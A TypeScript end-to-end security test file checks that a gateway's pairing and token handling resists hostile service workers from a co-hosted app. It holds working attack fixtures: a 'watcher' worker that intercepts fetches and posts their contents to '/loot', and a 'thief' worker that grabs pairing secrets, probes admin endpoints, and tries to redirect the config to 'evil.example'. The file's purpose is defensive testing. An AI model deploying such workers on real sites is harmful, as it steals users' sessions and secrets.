import { beforeAll, describe, expect, it } from 'vitest'
import type { Page } from 'playwright-core'
import { anotherTab } from '../e2e/page/house.ts'
import { needsPeer } from '../support/peers.ts'
import { doorTo } from './doors.ts'
import { openTenants, type Tenants, visit } from './tenants.ts'

// A service worker of the app at `/` stands before every page of the address in browsers that opened the app: it sees what they ask for and
// may answer in the gateway's place. So no page there takes the owner's token, and what a worker can take is worth no more than its person has.

const page = '<!doctype html><html><head><title>the app</title></head><body>hello<script src="/app.js"></script></body></html>'
const register = `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
  .then(() => document.body.dataset.worker = 'ready', (error) => document.body.dataset.worker = String(error))`
const takesOver = `
const home = (what) => fetch('/loot', { method: 'POST', body: JSON.stringify(what) })
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
`
/** Passes everything on and sends home what it sees; an event stream it leaves alone, for it would have to live as long. */
const watcher = `${takesOver}
addEventListener('fetch', (event) => {
  const { request } = event
  if (/loot$|events$/.test(request.url)) return
  event.respondWith((async () => {
    const body = await request.clone().text()
    const reply = await fetch(request)
    const text = await reply.clone().text()
    event.waitUntil(home({ url: request.url, mode: request.mode, body, sent: [...request.headers], got: [...reply.headers], text }))
    return reply
  })())
})`
/** Takes the secret out of a pairing link, tries what can be had for it, and answers with a page of its own. */
const thief = `${takesOver}
const ask = async (method, path, body) => {
  const reply = await fetch(path, { method, headers: { 'content-type': 'application/json' }, ...(body && { body: JSON.stringify(body) }) })
  return { status: reply.status, headers: [...reply.headers], text: await reply.text() }
}
addEventListener('fetch', (event) => {
  const { url, mode } = event.request
  if (mode !== 'navigate' || !url.includes('/xopc/pair')) return
  event.respondWith((async () => {
    const pairingSecret = url.split('#ps=')[1]
    const exchange = '/xopc/api/tunnel/exchange-token'
    const token = await ask('POST', exchange, { pairingSecret, deviceName: 'Thief' })
    const cookie = await ask('POST', exchange, { pairingSecret, as: 'cookie', deviceName: 'Thief' })
    const admin = [await ask('GET', '/xopc/api/config'), await ask('GET', '/xopc/api/devices'), await ask('POST', '/xopc/api/pair', {}),
      await ask('PATCH', '/xopc/api/config', { 'gateway.publicUrl': 'https://evil.example' })]
    await home({ pairingSecret, token, cookie, admin, right: (await ask('GET', '/xopc/api/status')).status })
    return new Response('<h1>Not the gateway</h1>', { headers: { 'content-type': 'text/html' } })
  })())
})`

interface Reply {
  status: number
  headers: [string, string][]
  text: string
}
/** What the thief sends home. */
interface Stolen {
  pairingSecret: string
  token: Reply
  cookie: Reply
  admin: Reply[]
  right: number
}

/** Waits until the worker stands before the page. */
async function underWorker(app: Page): Promise<void> {
  await app.locator('body[data-worker]').waitFor()
  expect(await app.locator('body').getAttribute('data-worker')).toBe('ready')
  const controller = () => app.evaluate(() => navigator.serviceWorker.controller?.scriptURL ?? '')
  await expect.poll(controller, { timeout: 15_000 }).toMatch(/\/sw\.js$/)
}

/** How many workers the address has in this browser; a page that is just shown anew has no answer. */
const workers = (tab: Page) => tab.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length).catch(() => null)

needsPeer(['chromium', 'caddy', 'own-hosts'], 'a service worker of the app', (chromium, caddy) => {
  describe('that watches', () => {
    let tenants: Tenants
    beforeAll(async () => {
      const files = { '/': page, '/app.js': register, '/sw.js': watcher, '/deep/sw.js': watcher }
      tenants = await openTenants(chromium, caddy, files, { 'service-worker-allowed': '/' })
    })

    it('comes from nothing under /xopc/, and reaches no further than its own folder', async () => {
      const { mint, person, joinBy } = tenants
      const app = await joinBy(await person(), (await mint()).link)
      const ours = await app.evaluate(async () => /\/xopc\/assets\/[\w-]+\.js/.exec(await (await fetch('/xopc/')).text())?.[0] ?? '')
      expect(ours).toMatch(/\.js$/)
      const tries = [
        [ours, '/xopc/'],
        [ours, ours.replace(/[\w-]+\.js$/, '')],
        ['/xopc/sw.js', '/xopc/'],
        ['/xopc/api/status', '/xopc/api/'],
        ['/deep/sw.js', '/'],
        ['/deep/sw.js', '/xopc/'],
      ]
      const results = await app.evaluate(
        (all) =>
          Promise.all(
            all.map(([script = '', scope = '']) =>
              navigator.serviceWorker.register(script, { scope }).then(
                () => `${script} at ${scope}`,
                (error: unknown) => String(error),
              ),
            ),
          ),
        tries,
      )
      expect(results.slice(0, 4).filter((result) => !result.includes('(403)'))).toEqual([])
      expect(results.slice(4).filter((result) => !result.startsWith('SecurityError'))).toEqual([])
    })

    it('sees what its person does at the address, and nothing that is the owner’s', async () => {
      const { gateway, url, mint, person, joinBy, loot } = tenants
      const owner = await person()
      const app = await joinBy(owner, (await mint()).link)
      await underWorker(app)
      const first = await owner.cookies()
      await visit(app, `${url}/xopc/`)
      await app.getByText('You can look here, and change nothing.').waitFor()
      // Signed out, the owner comes to sign in.
      const second = await mint()
      const { page: tab } = await anotherTab(owner, `${url}/xopc/`)
      expect(await tab.locator('input').count()).toBe(0)
      await visit(tab, second.link)
      await tab.getByRole('button', { name: 'Join' }).click()
      await tab.waitForURL(`${url}/`)
      await expect.poll(() => loot().join('\n'), { timeout: 15_000 }).toContain('exchange-token')
      const seen = loot().join('\n')
      // It does see: the very link, and what the person may read.
      for (const part of [second.secret, '/xopc/api/overview']) expect(seen).toContain(part)
      const cookies = [...first, ...(await owner.cookies())].map(({ value }) => value)
      expect(cookies.length).toBeGreaterThanOrEqual(2)
      for (const secret of [gateway.token, ...cookies, second.appSecret]) expect(seen).not.toContain(secret)
      expect(seen).not.toMatch(/xopc_(dt|sk|uk)_|set-cookie/)
      // What it saw is used up.
      const { local } = { local: doorTo({ host: '127.0.0.1', port: gateway.port }, new URL(url).host) }
      const again = await local.ask('POST /xopc/api/tunnel/exchange-token', ['Content-Type: application/json', `Origin: ${url}`], {
        body: JSON.stringify({ pairingSecret: second.secret, as: 'cookie' }),
      })
      expect(again).toMatchObject({ status: 401, code: 'PAIRING_INVALID' })
    })

    it.each([
      ['its person is thrown out', ['devices', 'revoke', '--all']],
      ['its app is gone', ['config', 'unset', 'gateway.upstream']],
    ])('is taken out of the browser when %s', async (_when, command) => {
      const { url, mint, person, joinBy } = tenants
      const app = await joinBy(await person(), (await mint()).link)
      await underWorker(app)
      expect(await tenants.gateway.xopc(command)).toMatchObject({ code: 0 })
      await visit(app, `${url}/`)
      await expect.poll(() => workers(app), { timeout: 30_000 }).toBe(0)
      await expect.poll(() => app.evaluate(() => navigator.serviceWorker.controller).catch(() => 'unknown'), { timeout: 15_000 }).toBe(null)
    })
  })

  describe('that takes a pairing link for itself', () => {
    let tenants: Tenants
    beforeAll(async () => {
      tenants = await openTenants(chromium, caddy, { '/': page, '/app.js': register, '/sw.js': thief })
    })

    it('gets no token by it, and what the browser gets is what its person would have got', async () => {
      const { gateway, mint, person, joinBy, loot, kept } = tenants
      const owner = await person()
      const app = await joinBy(owner, (await mint()).link)
      await underWorker(app)
      const [config] = (await kept()).split('{"devices"')
      const link = await mint()
      const { page: tab } = await anotherTab(owner, link.link)
      await tab.getByText('Not the gateway').waitFor()
      // `as`: what the thief sends home.
      const stolen = JSON.parse(loot()[0] ?? '') as Stolen
      expect(stolen.pairingSecret).toBe(link.secret)
      expect(stolen.token.status).toBe(401)
      expect(stolen.token.text).toContain('PAIRING_INVALID')
      expect(stolen.cookie.status).toBe(200)
      expect(stolen.admin.map(({ status }) => status)).toEqual([403, 403, 403, 403])
      expect(stolen.right).toBe(200)
      const secrets = (await owner.cookies()).map(({ value }) => value)
      for (const secret of [gateway.token, link.appSecret, ...secrets]) expect(loot().join('\n')).not.toContain(secret)
      expect(loot().join('\n')).not.toMatch(/xopc_(dt|sk)_|set-cookie/)
      expect((await tenants.devices()).filter(({ name }) => name === 'Thief')).toEqual([
        expect.objectContaining({ kind: 'browser', scopes: ['read', 'run'] }),
      ])
      expect((await kept()).split('{"devices"')[0]).toBe(config)
    })

    // A program writes whatever Origin it likes, so a link that a worker carried away is good for one browser's rights elsewhere. What holds then:
    // no token of an app, read and run at most, seen by the owner with where it came from, and gone when it is revoked.
    it('and carries it away, has a browser’s rights elsewhere, which the owner sees and takes back', async () => {
      const { gateway, url, mint } = tenants
      const { secret } = await mint()
      const elsewhere = doorTo({ host: '127.0.0.1', port: gateway.port }, new URL(url).host)
      const bring = (body: object, lines: string[] = []) =>
        elsewhere.ask('POST /xopc/api/tunnel/exchange-token', ['Content-Type: application/json', ...lines], { body: JSON.stringify(body) })
      for (const [body, lines] of [
        [{ pairingSecret: secret }, [`Origin: ${url}`]],
        [{ pairingSecret: secret, as: 'cookie' }, []],
        [{ pairingSecret: secret, as: 'cookie' }, [`Origin: http://127.0.0.1:${gateway.port}`]],
      ] as const) {
        expect(await bring(body, [...lines])).toMatchObject({ status: 401, code: 'PAIRING_INVALID' })
      }
      const joined = await bring({ pairingSecret: secret, as: 'cookie', deviceName: 'Elsewhere', scopes: ['admin'] }, [`Origin: ${url}`])
      expect(joined.status, joined.body).toBe(200)
      const cookie = `Cookie: ${joined.headers['set-cookie']?.split(';')[0] ?? ''}`
      const token = cookie.split('=')[1] ?? ''
      expect((await elsewhere.ask('GET /xopc/api/status', [cookie])).status).toBe(200)
      for (const route of ['GET /xopc/api/config', 'GET /xopc/api/devices', 'POST /xopc/api/pair']) {
        expect((await elsewhere.ask(route, [cookie, 'Content-Type: application/json'])).status, route).toBe(403)
      }
      expect((await elsewhere.ask('GET /xopc/api/status', [`Authorization: Bearer ${token}`])).status).toBe(401)
      const device = (await tenants.devices()).find(({ name }) => name === 'Elsewhere')
      expect(device).toMatchObject({ kind: 'browser', scopes: ['read', 'run'], lastIp: '127.0.0.1', lastIngress: 'local' })
      await gateway.fetch(`/xopc/api/devices/${device?.id}`, { method: 'DELETE' })
      expect((await elsewhere.ask('GET /xopc/api/status', [cookie])).status).toBe(401)
    })
  })
})
